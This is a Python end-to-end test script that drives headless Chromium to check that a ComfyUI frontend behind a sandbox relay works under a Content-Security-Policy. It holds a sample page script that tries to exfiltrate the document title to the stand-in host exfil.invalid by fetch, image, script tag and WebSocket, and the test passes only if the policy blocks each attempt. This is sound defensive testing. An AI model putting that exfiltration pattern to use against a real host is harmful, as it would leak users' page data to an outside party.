#!/usr/bin/env python3
"""Drive the real ComfyUI frontend in headless Chromium, through the relay.

    python3 scripts/e2e/ui_browser.py URL SCREENSHOT.png [--timeout S]

Against an already running ComfyUI behind comfy-sandbox's relay (URL, e.g.
http://127.0.0.1:8188/), it proves the frontend works with the relay's
Content-Security-Policy in force:

 1. loads URL in Chromium (Debian's `chromium`; CHROMIUM=path to override)
    and checks the page came with a Content-Security-Policy header;
 2. waits until the frontend app is ready (window.app with its graph);
 3. loads a small workflow that needs no model (EmptyImage -> SaveImage)
    into the app and queues it from the page (app.queuePrompt), as the
    Queue button does;
 4. waits until ComfyUI reports it executed and the app shows its image;
 5. checks that no CSP violation blocked the app's own resources (scripts,
    styles, fonts, images, the WebSocket to the UI); violations of other
    origins (what a node would send out) are listed as blocked, as meant;
 6. saves a screenshot and exits 0, or 1 saying what failed.

Chromium is driven over --remote-debugging-pipe with the DevTools protocol
(JSON messages separated by NUL on fds 3 and 4): no debugging port is opened
that another local user could reach. Standard library only.
"""
import argparse
import base64
import fcntl
import json
import os
import select
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.parse

# A workflow that runs on a CPU in a moment and needs no model: a 512x512
# image of one colour, saved. Its output shows in the SaveImage node.
WORKFLOW = {
    "last_node_id": 2, "last_link_id": 1,
    "nodes": [
        {"id": 1, "type": "EmptyImage", "pos": [80, 120], "size": [315, 130], "flags": {}, "order": 0, "mode": 0,
         "inputs": [], "outputs": [{"name": "IMAGE", "type": "IMAGE", "links": [1], "slot_index": 0}],
         "properties": {"Node name for S&R": "EmptyImage"}, "widgets_values": [512, 512, 1, 0x3A7BD5]},
        {"id": 2, "type": "SaveImage", "pos": [460, 120], "size": [420, 480], "flags": {}, "order": 1, "mode": 0,
         "inputs": [{"name": "images", "type": "IMAGE", "link": 1}], "outputs": [],
         "properties": {"Node name for S&R": "SaveImage"}, "widgets_values": ["ui_browser"]},
    ],
    "links": [[1, 1, 0, 2, 0, "IMAGE"]],
    "groups": [], "config": {}, "extra": {}, "version": 0.4,
}

# Installed before any of the page's scripts: records every CSP violation.
RECORD_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', e => {
  window.__cspViolations.push({directive: e.effectiveDirective || e.violatedDirective, blocked: e.blockedURI,
                               source: e.sourceFile, line: e.lineNumber, sample: e.sample});
}, true);
"""

# Loads the workflow into the app, queues it the way the Queue button does,
# and resolves once ComfyUI says the SaveImage node produced its image.
QUEUE = """
(async () => {
  const app = window.app;
  const api = app.api || (await import('/scripts/api.js')).api;
  const done = new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('no result within %(timeout)d s')), %(timeout)d * 1000);
    api.addEventListener('executed', e => {
      const out = e.detail && e.detail.output;
      if (out && out.images && out.images.length) { clearTimeout(timer); resolve(out.images); }
    });
    api.addEventListener('execution_error', e => { clearTimeout(timer); reject(new Error('execution_error: ' + JSON.stringify(e.detail).slice(0, 500))); });
  });
  await app.loadGraphData(%(workflow)s);
  await app.queuePrompt(0, 1);
  const images = await done;
  return JSON.stringify(images);
})()
"""

# A node's JavaScript sending what it read to another origin: fetch, an
# image, a script, a WebSocket. The policy must stop each (none of these
# names resolve anyway: a violation proves the policy, not the network, did).
EXFILTRATE = """
(async () => {
  const url = 'http://exfil.invalid/collect?d=' + encodeURIComponent(document.title);
  try { await fetch(url, {mode: 'no-cors'}); } catch (e) {}
  const img = new Image(); img.src = url + '&via=img';
  const s = document.createElement('script'); s.src = url + '&via=script'; document.head.appendChild(s);
  try { new WebSocket('ws://exfil.invalid/ws'); } catch (e) {}
  await new Promise(r => setTimeout(r, 500));
  return true;
})()
"""

READY = "!!(window.app && window.app.graph && window.app.canvas && document.querySelector('canvas'))"

# A first run opens the template browser over the graph: mark the tour done
# (where the frontend has the setting) so that it stays shut.
QUIET = """
(async () => {
  try { await window.app.extensionManager.setting.set('Comfy.TutorialCompleted', true); return 'tour marked done'; }
  catch (e) { return 'no tour setting (' + e + ')'; }
})()
"""

# The graph at scale 1 from its top-left corner, where the workflow's nodes are.
FRAME = """
(() => {
  const c = window.app.canvas;
  c.ds.scale = 1; c.ds.offset[0] = 0; c.ds.offset[1] = 0;
  c.setDirty(true, true);
  return document.querySelectorAll('.p-dialog').length;
})()
"""

# The SaveImage node shows the image once the app has loaded it.
SHOWN = """
(() => {
  const n = window.app.graph._nodes.find(n => n.type === 'SaveImage');
  return !!(n && n.imgs && n.imgs.length && n.imgs[0].complete && n.imgs[0].naturalWidth > 0);
})()
"""


class Failure(Exception):
    pass


class DevTools:
    """The DevTools protocol over Chromium's --remote-debugging-pipe."""

    def __init__(self, proc, to_chrome, from_chrome):
        self.proc = proc
        self.out = to_chrome
        self.inp = from_chrome
        self.buf = b""
        self.next_id = 0
        self.events = []

    def send(self, method, params=None, session=None):
        self.next_id += 1
        msg = {"id": self.next_id, "method": method, "params": params or {}}
        if session:
            msg["sessionId"] = session
        os.write(self.out, json.dumps(msg).encode() + b"\0")
        return self.next_id

    def read(self, timeout):
        """The next message, or None after `timeout` seconds."""
        while b"\0" not in self.buf:
            r, _, _ = select.select([self.inp], [], [], timeout)
            if not r:
                return None
            chunk = os.read(self.inp, 1 << 20)
            if not chunk:
                raise Failure("Chromium closed the DevTools pipe (exit %s)" % self.proc.poll())
            self.buf += chunk
        raw, _, self.buf = self.buf.partition(b"\0")
        return json.loads(raw)

    def call(self, method, params=None, session=None, timeout=30):
        want = self.send(method, params, session)
        deadline = time.time() + timeout
        while True:
            msg = self.read(max(0.0, deadline - time.time()))
            if msg is None:
                raise Failure("no answer to %s within %d s" % (method, timeout))
            if msg.get("id") == want:
                if "error" in msg:
                    raise Failure("%s: %s" % (method, msg["error"]))
                return msg.get("result", {})
            if "method" in msg:
                self.events.append(msg)

    def pump(self, seconds, until=None):
        """Collects events for `seconds`; with `until`, returns the first
        event (already collected or new) it accepts, else None."""
        if until:
            for e in self.events:
                if until(e):
                    return e
        deadline = time.time() + seconds
        while time.time() < deadline:
            msg = self.read(max(0.0, deadline - time.time()))
            if msg is None:
                break
            if "method" in msg:
                self.events.append(msg)
                if until and until(msg):
                    return msg
        return None

    def wait_event(self, method, session, timeout):
        e = self.pump(timeout, until=lambda e: e["method"] == method and e.get("sessionId") == session)
        if e is None:
            raise Failure("no %s within %d s" % (method, timeout))
        return e

    def evaluate(self, expression, session, timeout=30, await_promise=False):
        r = self.call("Runtime.evaluate", {"expression": expression, "awaitPromise": await_promise, "returnByValue": True},
                      session, timeout=timeout + 5)
        if "exceptionDetails" in r:
            d = r["exceptionDetails"]
            text = (d.get("exception") or {}).get("description") or d.get("text")
            raise Failure("page script failed: %s" % text)
        return r["result"].get("value")


def chromium():
    for name in (os.environ.get("CHROMIUM"), "chromium", "chromium-browser", "google-chrome"):
        if name and shutil.which(name):
            return shutil.which(name)
    raise Failure("no Chromium found: apt-get install chromium (or set CHROMIUM)")


def start_chromium(profile):
    to_r, to_w = os.pipe()        # we write, Chromium reads fd 3
    from_r, from_w = os.pipe()    # Chromium writes fd 4, we read
    # Chromium's ends above 10 first, so that putting them on 3 and 4 in
    # the child cannot overwrite one with the other.
    high = [fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 10) for fd in (to_r, from_w)]
    os.close(to_r)
    os.close(from_w)
    to_r, from_w = high
    argv = [chromium(), "--headless=new", "--remote-debugging-pipe", "--user-data-dir=" + profile,
            "--no-first-run", "--no-default-browser-check", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--disable-extensions", "--disable-gpu",
            "--disable-dev-shm-usage", "--window-size=1600,1000", "--hide-scrollbars", "about:blank"]
    if os.geteuid() == 0:
        argv.insert(1, "--no-sandbox")   # Chromium's own sandbox refuses to run as root

    def fds():
        os.dup2(to_r, 3)     # inheritable: kept across exec, unlike every pipe end of ours
        os.dup2(from_w, 4)
    proc = subprocess.Popen(argv, close_fds=False, preexec_fn=fds, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=open(os.path.join(profile, "chromium.log"), "wb"))
    os.close(to_r)
    os.close(from_w)
    return DevTools(proc, to_w, from_r)


def same_origin(url, origin):
    if not url:
        return False
    u = urllib.parse.urlsplit(url)
    return (u.scheme in ("http", "https", "ws", "wss")) and u.netloc == origin


def report(dt, session, origin, say):
    """Says what the policy blocked (the page's own record and the console's)
    and what the page threw; returns (all violations, those of the app's own)."""
    violations = json.loads(dt.evaluate("JSON.stringify(window.__cspViolations || [])", session) or "[]")
    for e in dt.events:
        if e["method"] == "Log.entryAdded" and e.get("sessionId") == session:
            entry = e["params"]["entry"]
            if "Content Security Policy" in entry.get("text", "") or entry.get("level") == "error":
                say("console %s: %s" % (entry.get("level"), entry.get("text", "")[:300]))
        if e["method"] == "Runtime.consoleAPICalled" and e.get("sessionId") == session and e["params"].get("type") == "error":
            say("console.error: %s" % " ".join(str(a.get("value", a.get("description", ""))) for a in e["params"].get("args", []))[:300])
        if e["method"] == "Runtime.exceptionThrown" and e.get("sessionId") == session:
            d = e["params"]["exceptionDetails"]
            say("page exception: %s" % ((d.get("exception") or {}).get("description") or d.get("text", ""))[:300])
    own = []
    for v in violations:
        blocked = v.get("blocked") or ""
        core = same_origin(v.get("source"), origin) and "/extensions/" not in (v.get("source") or "")
        if same_origin(blocked, origin) or (blocked in ("inline", "eval", "wasm-eval") and core):
            own.append(v)
            say("VIOLATION of the app's own: %s blocked %s (%s:%s)" % (v.get("directive"), blocked, v.get("source"), v.get("line")))
        else:
            say("blocked as meant: %s %s (from %s)" % (v.get("directive"), blocked, v.get("source")))
    return violations, own


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("url")
    ap.add_argument("screenshot")
    ap.add_argument("--timeout", type=int, default=120, help="seconds for each wait (default 120)")
    args = ap.parse_args()
    origin = urllib.parse.urlsplit(args.url).netloc
    profile = tempfile.mkdtemp(prefix="ui-browser-")
    dt = None
    s = None
    seen = []

    def say(line):
        seen.append(line)
        print(line, flush=True)

    try:
        dt = start_chromium(profile)
        target = dt.call("Target.createTarget", {"url": "about:blank"})["targetId"]
        s = dt.call("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        for domain in ("Page", "Runtime", "Log", "Network"):
            dt.call(domain + ".enable", session=s)
        dt.call("Page.addScriptToEvaluateOnNewDocument", {"source": RECORD_VIOLATIONS}, s)
        dt.call("Emulation.setDeviceMetricsOverride", {"width": 1600, "height": 1000, "deviceScaleFactor": 1, "mobile": False}, s)

        dt.call("Page.navigate", {"url": args.url}, s)
        dt.wait_event("Page.loadEventFired", s, args.timeout)
        doc = next((e for e in dt.events if e["method"] == "Network.responseReceived" and e.get("sessionId") == s
                    and e["params"].get("type") == "Document"), None)
        if not doc:
            raise Failure("no document response for %s" % args.url)
        status = doc["params"]["response"]["status"]
        headers = {k.lower(): v for k, v in doc["params"]["response"]["headers"].items()}
        csp = headers.get("content-security-policy")
        say("page: %s -> HTTP %s" % (args.url, status))
        if status != 200:
            raise Failure("the page answered HTTP %s" % status)
        if not csp:
            raise Failure("the page came without a Content-Security-Policy header")
        say("csp: %s" % csp)

        deadline = time.time() + args.timeout
        while not dt.evaluate(READY, s):
            if time.time() > deadline:
                raise Failure("the frontend app was not ready within %d s" % args.timeout)
            dt.pump(0.5)
        say("app: ready (ComfyUI frontend %s)" % (dt.evaluate("window.__COMFYUI_FRONTEND_VERSION__ || ''", s) or "?"))
        say("app: %s" % dt.evaluate(QUIET, s, await_promise=True))

        images = json.loads(dt.evaluate(QUEUE % {"timeout": args.timeout, "workflow": json.dumps(WORKFLOW)}, s,
                                        timeout=args.timeout + 30, await_promise=True))
        say("queued from the page; executed: SaveImage wrote %s" % ", ".join(i.get("filename", "?") for i in images))
        deadline = time.time() + args.timeout
        while not dt.evaluate(SHOWN, s):
            if time.time() > deadline:
                raise Failure("the app did not show the result image within %d s" % args.timeout)
            dt.pump(0.5)
        # Dialogs shut (Escape, as a user would), the nodes in view, the canvas drawn.
        for _ in range(3):
            for kind in ("keyDown", "keyUp"):
                dt.call("Input.dispatchKeyEvent", {"type": kind, "key": "Escape", "code": "Escape", "windowsVirtualKeyCode": 27}, s)
            dt.pump(0.3)
        open_dialogs = dt.evaluate(FRAME, s)
        dt.pump(1.0)
        say("result: the image is shown in the SaveImage node (%d dialog(s) open)" % open_dialogs)

        png = base64.b64decode(dt.call("Page.captureScreenshot", {"format": "png"}, s, timeout=60)["data"])
        with open(args.screenshot, "wb") as f:
            f.write(png)
        say("screenshot: %s (%d bytes)" % (args.screenshot, len(png)))
        ws = dt.evaluate("(window.app.api.socket || {}).readyState", s)
        say("websocket: %s" % ("open (connect-src 'self' lets the page reach its own ws:)" if ws == 1 else "state %r" % ws))
        if ws != 1:
            raise Failure("the app's WebSocket to ComfyUI is not open")

        # What a node's script would do to send data out: each must be refused.
        before = len(json.loads(dt.evaluate("JSON.stringify(window.__cspViolations)", s)))
        dt.evaluate(EXFILTRATE, s, await_promise=True, timeout=30)
        dt.pump(1.0)
        after = json.loads(dt.evaluate("JSON.stringify(window.__cspViolations)", s))[before:]
        stopped = sorted({v.get("directive") for v in after if "exfil.invalid" in (v.get("blocked") or "")})
        say("exfiltration attempts from the page blocked by: %s" % (", ".join(stopped) or "nothing"))
        if not {"connect-src", "img-src", "script-src-elem"} <= set(stopped):
            raise Failure("the policy let a page script reach another origin (blocked only: %s)" % stopped)

        violations, own = report(dt, s, origin, say)
        if own:
            raise Failure("%d CSP violation(s) blocked the app's own resources" % len(own))
        say("OK: the frontend works under the relay's CSP (%d violation(s) of other origins blocked)" % len(violations))
        return 0
    except Failure as e:
        print("FAIL: %s" % e, flush=True)
        if dt and s:
            try:
                dt.pump(0.5)
                report(dt, s, origin, say)
            except Exception as again:
                print("(no report: %s)" % again)
        try:
            if dt:
                png = base64.b64decode(dt.call("Page.captureScreenshot", {"format": "png"}, s, timeout=30)["data"])
                with open(args.screenshot, "wb") as f:
                    f.write(png)
                print("screenshot (of the failure): %s" % args.screenshot)
        except Exception:
            pass
        log = os.path.join(profile, "chromium.log")
        if os.path.exists(log):
            lines = open(log, "rb").read().decode(errors="replace").splitlines()
            tail = "\n".join(l for l in lines if "dbus" not in l.lower())[-2000:]
            if tail.strip():
                print("chromium's log (tail):\n" + tail)
        return 1
    finally:
        if dt:
            try:
                dt.send("Browser.close")
                dt.proc.wait(timeout=10)
            except Exception:
                dt.proc.kill()
        shutil.rmtree(profile, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
